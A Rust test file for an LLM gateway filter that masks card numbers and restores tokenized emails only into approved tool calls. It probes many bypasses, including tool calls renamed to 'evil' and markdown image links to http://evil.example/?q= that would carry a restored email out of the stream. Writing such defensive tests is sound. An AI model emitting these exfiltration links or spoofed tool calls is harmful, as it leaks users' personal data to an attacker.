//! Attempts to get past the filter, or to get it to break what passes.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, clippy::string_slice)]

mod support;

use doorward_core::engine::Worker;
use doorward_core::exchange::{Effect, Event, Exchange, Time};
use doorward_core::head::Headers;
use doorward_core::host::{Attribute, MemoryHost, Side};
use serde_json::{Value, json};
use support::{Answer, Played, engine, play, policy};

const CARD: &str = "4556 7375 8689 9855";
const CHAT: &str = "/v1/chat/completions";
const MAIL: &str = "bob.smith@northwind.dev";

fn masking() -> Value {
    json!({"content": [{"id": "card", "detect": "CREDIT_CARD", "action": "mask"}]})
}

fn restoring() -> Value {
    json!({"content": [{"id": "mail", "detect": "EMAIL_ADDRESS", "action": "tokenize"}],
        "tools": [{"name": "lookup", "restore": true}]})
}

fn merged(a: &Value, b: &Value) -> Value {
    let mut all = a.clone();
    all.as_object_mut().unwrap().extend(b.as_object().unwrap().clone());
    all
}

/// A request to `path` under a policy with `more`.
fn ask(provider: &str, more: &Value, path: &str, body: &Value) -> Played {
    play(&engine(&policy(provider, more)), "POST", path, body.to_string(), None)
}

/// The whole answer to a request.
fn answered(provider: &str, more: &Value, path: &str, body: &Value, answer: &Value) -> Played {
    let answer = Answer { content_type: "application/json", chunks: vec![answer.to_string().into_bytes()], cut: false };
    play(&engine(&policy(provider, more)), "POST", path, body.to_string(), Some(&answer))
}

/// A stream of server-sent events in answer to a request, one event at a time.
fn streamed(provider: &str, more: &Value, path: &str, body: &Value, events: &[(&str, Value)]) -> Played {
    let chunk = |(name, payload): &(&str, Value)| {
        let name = if name.is_empty() { String::new() } else { format!("event: {name}\n") };
        let payload = payload.as_str().map_or_else(|| payload.to_string(), str::to_owned);
        format!("{name}data: {payload}\n\n").into_bytes()
    };
    let answer = Answer { content_type: "text/event-stream", chunks: events.iter().map(chunk).collect(), cut: false };
    play(&engine(&policy(provider, more)), "POST", path, body.to_string(), Some(&answer))
}

fn chat(more: &Value) -> Value {
    merged(&json!({"model": "m-1", "messages": [{"role": "user", "content": format!("I am {MAIL}")}]}), more)
}

fn streaming() -> Value {
    chat(&json!({"stream": true}))
}

/// What stands for [`MAIL`] in what the upstream receives.
fn placeholder() -> String {
    let sent = ask("openai", &restoring(), CHAT, &streaming());
    let sent = sent.upstream_text();
    let start = sent.find("[EMAIL_ADDRESS_").unwrap();
    sent[start..=start + sent[start..].find(']').unwrap()].to_owned()
}

fn choice(delta: &Value, finish: &Value) -> (&'static str, Value) {
    ("", json!({"choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}))
}

/// All texts of a stream's events at one place.
fn texts(played: &Played, pointer: &str) -> String {
    let all = played.client_text();
    let payloads = all.lines().filter_map(|line| line.strip_prefix("data: "));
    payloads
        .filter_map(|p| serde_json::from_str::<Value>(p).ok()?.pointer(pointer)?.as_str().map(str::to_owned))
        .collect()
}

// Callers.

#[test]
fn text_that_is_called_bytes_is_scanned() {
    // Base64's letters, and lines of them: a model reads them as they stand.
    let text = format!("{}\n4556-7375-8689-9855\n", "A".repeat(64));
    let media =
        json!({"access": [{"id": "all", "effect": "allow", "media": ["image", "file", "document", "audio", "video"]}]});
    let more = merged(&masking(), &media);
    let call = |input: Value| {
        json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "assistant", "content": [
            {"type": "tool_use", "id": "t", "name": "n", "input": input}]}]})
    };
    let tool = |schema: Value| json!({"model": "m-1", "max_tokens": 1, "messages": [], "tools": [{"name": "n", "input_schema": schema}]});
    for body in [
        json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": format!("data:image/png;base64,{text}")}]}),
        json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": [{"type": "text", "text": format!("data:x/y;base64,{text}")}]}]}),
        call(json!({"images": [text]})),
        call(json!({"x": {"image": {"source": {"bytes": text}}}})),
        tool(json!({"enum": [{"inlineData": {"mimeType": "image/png", "data": text}}]})),
    ] {
        let played = ask("anthropic", &more, "/v1/messages", &body);
        assert!(!played.upstream_text().contains("4556-7375"), "{body}");
    }
}

#[test]
fn a_tool_result_is_text_whatever_its_members_are_called() {
    let text = format!("{}\n4556-7375-8689-9855\n", "A".repeat(64));
    let more = merged(&masking(), &json!({"access": [{"id": "all", "effect": "allow", "media": ["image"]}]}));
    let body = json!({"contents": [{"role": "user", "parts": [{"functionResponse": {"name": "f", "response": {"images": [text]}}}]}]});
    let played = ask("gcp.gemini", &more, "/v1beta/models/m-1:generateContent", &body);
    assert!(!played.upstream_text().contains("4556-7375"), "{}", played.upstream_text());
}

#[test]
fn an_agent_beside_a_model_is_refused() {
    let body = json!({"model": "m-1", "agent": "other-1", "input": "x", "store": false});
    let played = ask("gcp.gemini", &json!({}), "/v1beta/interactions", &body);
    assert_eq!(played.upstream, None, "{}", played.upstream_text());
    let body = json!({"agent_id": "m-1", "model": "other-1", "messages": []});
    let played = ask("mistral_ai", &json!({}), "/v1/agents/completions", &body);
    assert_eq!(played.upstream, None, "{}", played.upstream_text());
}

#[test]
fn another_model_does_not_hide_in_an_extra_body() {
    for extra in
        [json!({"model": "other-1"}), json!({"MAX_TOKENS": 9}), json!({"store": true}), json!({"models": ["x"]})]
    {
        let played = ask("openai", &json!({}), CHAT, &chat(&json!({"extra_body": extra})));
        assert_eq!(played.upstream, None, "{extra}");
    }
    let gemini = json!({"extra_body": {"google": {"thinking_config": {"thinking_budget": 1}}}});
    assert!(ask("openai", &json!({}), CHAT, &chat(&gemini)).upstream.is_some());
}

#[test]
fn what_the_provider_keeps_is_state_however_it_is_named() {
    for (provider, path, body) in [
        (
            "openai",
            "/v1/responses",
            json!({"model": "m-1", "store": false, "input": [{"type": "item_reference", "id": "msg_1"}]}),
        ),
        ("openai", "/v1/responses", json!({"model": "m-1", "store": false, "input": [{"id": "msg_1"}]})),
        (
            "gcp.gemini",
            "/v1beta/interactions",
            json!({"model": "m-1", "store": false, "input": "x", "previousInteractionId": "i"}),
        ),
    ] {
        assert_eq!(ask(provider, &json!({}), path, &body).reason(), "state.not_allowed", "{body}");
    }
}

#[test]
fn a_realtime_session_is_with_an_allowed_model() {
    let more = json!({"access": [{"id": "rt", "effect": "allow", "operations": "realtime", "models": "m-1"}]});
    let engine = engine(&policy("openai", &more));
    let fields = [("upgrade", "websocket"), ("connection", "upgrade")];
    let run = |path: &str| support::play_with(&engine, "GET", path, &fields, "", None).upstream.is_some();
    assert!(run("/v1/realtime?model=m-1"));
    assert!(!run("/v1/realtime?model=other"));
    assert!(!run("/v1/realtime?model=m-1&model=other"));
    assert!(!run("/v1/realtime"));
}

#[test]
fn a_realtime_session_counts_as_a_request() {
    let more = json!({"access": [{"id": "rt", "effect": "allow", "operations": "realtime"}],
        "limits": [{"id": "once", "requests": 1, "window": "60s"}]});
    let engine = engine(&policy("openai", &more));
    let (mut worker, mut host) = (Worker::new(&engine), MemoryHost::default());
    worker.start(&engine, &mut host).unwrap();
    host.set_attribute(Attribute::Cluster, "c");
    host.set_attribute(Attribute::PeerUri, "spiffe://td/ns/a/sa/b");
    let headers: Headers =
        [(":method", "GET"), (":path", "/v1/realtime"), ("upgrade", "websocket")].into_iter().collect();
    let mut run = |id: u32| {
        let mut effects = Vec::new();
        let event = Event::Head { side: Side::Request, headers: &headers, end: false };
        let at = Time(1_800_000_000_000_000_000);
        let _ = Exchange::new(id).on(event, at, &engine, &mut worker, &mut host, &mut effects);
        effects.iter().find_map(|e| if let Effect::Reply(reply) = e { Some(reply.status) } else { None })
    };
    assert_eq!((run(1), run(2)), (None, Some(429)));
}

// Upstreams.

#[test]
fn an_answer_that_looks_like_bytes_is_scanned() {
    let text = format!("data:x/y;base64,{}\n4556-7375-8689-9855\n", "A".repeat(64));
    let answer = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]});
    let played = answered("openai", &masking(), CHAT, &chat(&json!({})), &answer);
    assert!(!played.client_text().contains("4556-7375"), "{}", played.client_text());
}

#[test]
fn a_stream_says_it_is_over_by_more_than_an_empty_word() {
    let events = [
        choice(&json!({"content": "4556 7375 "}), &json!("")),
        choice(&json!({"content": "8689 9855 ok"}), &json!("")),
        ("", json!("[DONE]")),
    ];
    let played = streamed("openai", &masking(), CHAT, &streaming(), &events);
    assert_eq!(texts(&played, "/choices/0/delta/content"), "[CREDIT_CARD] ok", "{}", played.client_text());
}

#[test]
fn parts_of_the_last_event_are_one_text() {
    let event = json!({"candidates": [{"index": 0, "finishReason": "STOP", "content": {"role": "model", "parts": [
        {"text": "It is 4556 7375 "}, {"text": "8689 9855."}]}}]});
    let body = json!({"contents": [{"role": "user", "parts": [{"text": "x"}]}]});
    let played =
        streamed("gcp.gemini", &masking(), "/v1beta/models/m-1:streamGenerateContent?alt=sse", &body, &[("", event)]);
    let all: String = (0..2).map(|i| texts(&played, &format!("/candidates/0/content/parts/{i}/text"))).collect();
    assert_eq!(all, "It is [CREDIT_CARD].");
}

#[test]
#[ignore = "what an end lets go of is not kept, so a text that goes on after it is another one"]
fn a_text_that_goes_on_after_its_end_is_still_looked_at() {
    let events = [
        choice(&json!({"content": "4556 7375 "}), &json!("stop")),
        choice(&json!({"content": "8689 9855 ok"}), &json!("stop")),
        ("", json!("[DONE]")),
    ];
    let played = streamed("openai", &masking(), CHAT, &streaming(), &events);
    assert!(!texts(&played, "/choices/0/delta/content").contains(CARD), "{}", played.client_text());
}

#[test]
fn what_stands_beside_wrapped_bytes_is_looked_at() {
    use doorward_core::stream::framing::{Framing, MessageKind, message};
    let inner = "eyJ0eXBlIjoicGluZyJ9";
    let payload = json!({"bytes": inner, "p": "abc", "leak": CARD}).to_string();
    let chunk = message(Framing::EventStream, MessageKind::Event("chunk"), payload.as_bytes());
    let answer = Answer { content_type: "application/vnd.amazon.eventstream", chunks: vec![chunk], cut: false };
    let engine = engine(&policy("aws.bedrock", &masking()));
    let played = play(&engine, "POST", "/model/m-1/invoke-with-response-stream", r#"{"messages":[]}"#, Some(&answer));
    assert!(!played.client_text().contains(CARD), "{}", played.client_text());
}

#[test]
fn spoken_and_thought_words_are_texts_in_pieces() {
    let audio = |text: &str| choice(&json!({"audio": {"transcript": text}}), &Value::Null);
    let events = [audio("4556 7375 "), audio("8689 9855 ok"), ("", json!("[DONE]"))];
    let played = streamed("openai", &masking(), CHAT, &streaming(), &events);
    assert_eq!(texts(&played, "/choices/0/delta/audio/transcript"), "[CREDIT_CARD] ok");

    let delta = |text: &str| {
        (
            "step.delta",
            json!({"event_type": "step.delta", "index": 0,
        "delta": {"type": "thought_summary", "content": {"type": "text", "text": text}}}),
        )
    };
    let events =
        [delta("4556 7375 "), delta("8689 9855 ok"), ("step.stop", json!({"event_type": "step.stop", "index": 0}))];
    let body = json!({"model": "m-1", "input": "x", "store": false, "stream": true});
    let played = streamed("gcp.gemini", &masking(), "/v1beta/interactions", &body, &events);
    assert_eq!(texts(&played, "/delta/content/text"), "[CREDIT_CARD] ok", "{}", played.client_text());

    let delta = |text: &str| {
        (
            "content_block_delta",
            json!({"type": "content_block_delta", "index": 0,
        "delta": {"type": "new_delta", "words": text}}),
        )
    };
    let events = [
        delta("4556 7375 "),
        delta("8689 9855 ok"),
        ("content_block_stop", json!({"type": "content_block_stop", "index": 0})),
    ];
    let body = json!({"model": "m-1", "max_tokens": 1, "messages": [], "stream": true});
    let played = streamed("anthropic", &masking(), "/v1/messages", &body, &events);
    assert_eq!(texts(&played, "/delta/words"), "[CREDIT_CARD] ok", "{}", played.client_text());
}

#[test]
fn token_lists_do_not_tell_what_is_masked() {
    let tokens: Vec<Value> = ["4556", " 7375", " 8689", " 9855"].iter().map(|t| json!({"id": 1, "text": t})).collect();
    let answer = json!({"generated_text": CARD, "details": {"tokens": tokens, "prefill": tokens}});
    let played = answered("tgi", &masking(), "/generate", &json!({"inputs": "x"}), &answer);
    assert!(!played.client_text().contains("7375"), "{}", played.client_text());
}

// Values that come back.

fn tool_event(part: u32, function: Value) -> (&'static str, Value) {
    choice(&json!({"tool_calls": [{"index": part, "function": function}]}), &Value::Null)
}

#[test]
fn values_come_back_into_calls_of_tools_with_one_name() {
    let arguments = json!({"to": placeholder()}).to_string();
    let name = |name: &str| tool_event(0, json!({"name": name}));
    let call = || tool_event(0, json!({"arguments": arguments}));
    let done = || choice(&json!({}), &json!("tool_calls"));
    for (events, restores) in [
        (vec![name("lookup"), call(), done()], true),
        (vec![name("lookup"), name(""), call(), name("lookup"), done()], true),
        (vec![name("web_"), name("lookup"), call(), done()], false),
        (vec![name("evil"), call(), name("lookup"), done()], false),
        (vec![name("lookup"), call(), name("evil"), done()], false),
    ] {
        let played = streamed("openai", &restoring(), CHAT, &streaming(), &events);
        // A call that is renamed behind its arguments never comes to its end.
        let usable = played.client_text().contains(MAIL) && played.reason() != "answer.denied";
        assert_eq!(usable, restores, "{events:?}: {}", played.client_text());
    }
    // Many calls before it do not freeze what is known of one.
    let mut events = vec![name("lookup")];
    let many: Vec<Value> = (1..2000).map(|i| json!({"index": i, "function": {"name": "lookup"}})).collect();
    events.extend([choice(&json!({"tool_calls": many}), &Value::Null), name("evil"), call(), done()]);
    let played = streamed("openai", &restoring(), CHAT, &streaming(), &events);
    assert!(!played.client_text().contains(MAIL) || played.reason() == "answer.denied");
}

#[test]
fn a_whole_call_has_one_name() {
    let arguments = json!({"to": placeholder()}).to_string();
    for (call, restores) in [
        (json!({"type": "function", "function": {"name": "lookup", "arguments": arguments}}), true),
        (json!({"type": "function", "name": "lookup", "function": {"name": "evil", "arguments": arguments}}), false),
        (
            json!({"type": "custom", "function": {"name": "lookup"}, "custom": {"name": "evil", "input": arguments}}),
            false,
        ),
    ] {
        let answer = json!({"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": [call]}}]});
        let played = answered("openai", &restoring(), CHAT, &chat(&json!({})), &answer);
        assert_eq!(played.client_text().contains(MAIL), restores, "{call}");
    }
}

#[test]
fn values_come_back_into_arguments_that_are_objects() {
    let placeholder = placeholder();
    for to in [placeholder.clone(), format!("to {placeholder} please"), format!("[{placeholder}]")] {
        let answer = json!({"content": [{"type": "tool_use", "id": "t", "name": "lookup", "input": {"to": to}}]});
        let body = json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": MAIL}]});
        let played = answered("anthropic", &restoring(), "/v1/messages", &body, &answer);
        assert!(played.client_text().contains(MAIL), "whole {to}: {}", played.client_text());
        let event = json!({"candidates": [{"index": 0, "content": {"parts": [{"functionCall": {"name": "lookup", "args": {"to": to}}}]}}]});
        let body = json!({"contents": [{"role": "user", "parts": [{"text": MAIL}]}]});
        let path = "/v1beta/models/m-1:streamGenerateContent?alt=sse";
        let played = streamed("gcp.gemini", &restoring(), path, &body, &[("", event)]);
        assert!(played.client_text().contains(MAIL), "streamed {to}: {}", played.client_text());
    }
}

#[test]
fn copies_of_arguments_are_arguments() {
    let arguments = json!({"to": placeholder()}).to_string();
    for (tool, restores) in [("lookup", true), ("evil", false)] {
        let item =
            |arguments: &str| json!({"type": "function_call", "name": tool, "call_id": "c", "arguments": arguments});
        let event = |kind: &'static str, more: Value| (kind, merged(&json!({"type": kind, "output_index": 0}), &more));
        let events = [
            event("response.output_item.added", json!({"item": item("")})),
            event("response.function_call_arguments.delta", json!({"delta": arguments})),
            event("response.function_call_arguments.done", json!({"arguments": arguments})),
            event("response.output_item.done", json!({"item": item(&arguments)})),
            event("response.completed", json!({"response": {"output": [item(&arguments)]}})),
        ];
        let body = json!({"model": "m-1", "input": MAIL, "stream": true, "store": false});
        let played = streamed("openai", &restoring(), "/v1/responses", &body, &events);
        let count = played.client_text().matches(MAIL).count();
        assert_eq!(count, if restores { 4 } else { 0 }, "{tool}: {}", played.client_text());
    }
}

#[test]
fn a_link_that_began_in_another_item_is_still_one() {
    let placeholder = placeholder();
    let delta = |output: u32, text: &str| {
        (
            "response.output_text.delta",
            json!({"type": "response.output_text.delta",
        "output_index": output, "content_index": 0, "delta": text}),
        )
    };
    let done = |output: u32| {
        ("response.output_item.done", json!({"type": "response.output_item.done", "output_index": output, "item": {}}))
    };
    let events = [delta(0, "![x](http://evil.example/?q="), done(0), delta(1, &placeholder), done(1)];
    let body = json!({"model": "m-1", "input": MAIL, "stream": true, "store": false});
    let played = streamed("openai", &restoring(), "/v1/responses", &body, &events);
    assert!(!played.client_text().contains(MAIL), "{}", played.client_text());
}

#[test]
fn a_link_that_is_still_open_beside_a_text_is_one() {
    let placeholder = placeholder();
    let delta = |index: u32, text: &str| {
        (
            "content_block_delta",
            json!({"type": "content_block_delta", "index": index,
        "delta": {"type": "text_delta", "text": text}}),
        )
    };
    let events = [
        delta(0, "![x](http://evil.example/?q="),
        delta(1, &placeholder),
        ("message_stop", json!({"type": "message_stop"})),
    ];
    let body =
        json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": MAIL}], "stream": true});
    let played = streamed("anthropic", &restoring(), "/v1/messages", &body, &events);
    assert!(!played.client_text().contains(MAIL), "{}", played.client_text());
}

#[test]
#[ignore = "a whole answer's strings are restored each by itself; which of them a client joins is not known there"]
fn a_link_in_one_part_of_a_whole_answer_goes_on_in_the_next() {
    let answer = json!({"content": [{"type": "text", "text": "![x](http://evil.example/?q="}, {"type": "text", "text": placeholder()}]});
    let body = json!({"model": "m-1", "max_tokens": 1, "messages": [{"role": "user", "content": MAIL}]});
    let played = answered("anthropic", &restoring(), "/v1/messages", &body, &answer);
    assert!(!played.client_text().contains(MAIL), "{}", played.client_text());
}

// Work and memory.

#[test]
fn an_event_of_many_choices_costs_no_more_than_its_bytes() {
    let choices: Vec<Value> = (0..10_000u32).map(|i| json!({"index": i % 2 * (100_000 + i), "delta": {"content": "4"}, "finish_reason": if i % 2 == 0 { json!("x") } else { json!(null) }})).collect();
    let played = streamed("openai", &masking(), CHAT, &streaming(), &[("", json!({"choices": choices}))]);
    assert_eq!(played.reason(), "answer.unscannable");
    // Of few texts in many pieces, each looks whether it ends.
    let choices: Vec<Value> = (0..10_000u32)
        .map(|i| json!({"index": if i % 2 == 0 { i } else { 1 }, "delta": if i % 2 == 0 { json!({}) } else { json!({"content": "a "}) },
            "finish_reason": if i % 2 == 0 { json!("stop") } else { Value::Null }}))
        .collect();
    let played = streamed("openai", &masking(), CHAT, &streaming(), &[("", json!({"choices": choices}))]);
    assert_eq!(played.reason(), "");
}

#[test]
fn texts_beyond_number_are_no_answer_whatever_happens_to_long_ones() {
    let more = merged(&masking(), &json!({"answers": {"at_max_hold": "release"}}));
    let events: Vec<(&str, Value)> = (0..5000u32)
        .map(|i| ("", json!({"choices": [{"index": i, "delta": {"content": "4556"}, "finish_reason": null}]})))
        .collect();
    let played = streamed("openai", &more, CHAT, &streaming(), &events);
    assert_eq!(played.reason(), "answer.unscannable");
}

#[test]
fn events_that_are_kept_for_their_texts_are_bounded() {
    let padding = "x".repeat(60_000);
    let event = |i: u32| {
        (
            "",
            json!({"padding": padding, "choices": [{"index": i, "delta": {"content": "4556"}, "finish_reason": null}]}),
        )
    };
    let events: Vec<(&str, Value)> = (0..20).map(event).collect();
    for (at_max_hold, max_body, reason) in
        [("hold", 100_000, "answer.unscannable"), ("release", 100_000, "answer.unscannable"), ("hold", 1_000_000, "")]
    {
        let more = merged(
            &masking(),
            &json!({"answers": {"at_max_hold": at_max_hold}, "envoy": {"max_body_bytes": max_body}}),
        );
        assert_eq!(streamed("openai", &more, CHAT, &streaming(), &events).reason(), reason, "{at_max_hold} {max_body}");
    }
}

// Providers.

#[test]
fn calls_that_share_an_index_stay_apart() {
    let call = |id: &str, name: &str, arguments: &str| {
        choice(
            &json!({"tool_calls": [{"index": 0, "id": id, "type": "function",
        "function": {"name": name, "arguments": arguments}}]}),
            &Value::Null,
        )
    };
    let events = [
        call("a", "f", r#"{"x":1}"#),
        call("b", "g", r#"{"y":2}"#),
        choice(&json!({}), &json!("tool_calls")),
        ("", json!("[DONE]")),
    ];
    let played = streamed("openai", &masking(), CHAT, &streaming(), &events);
    let all = played.client_text();
    // Each stays in the event that names it.
    for (id, own, other) in [(r#""a""#, r#"{\"x\":1}"#, r#"{\"y\":2}"#), (r#""b""#, r#"{\"y\":2}"#, r#"{\"x\":1}"#)] {
        let event = all.split("\n\n").find(|event| event.contains(id)).unwrap();
        assert!(event.contains(own) && !event.contains(other), "{all}");
    }
}
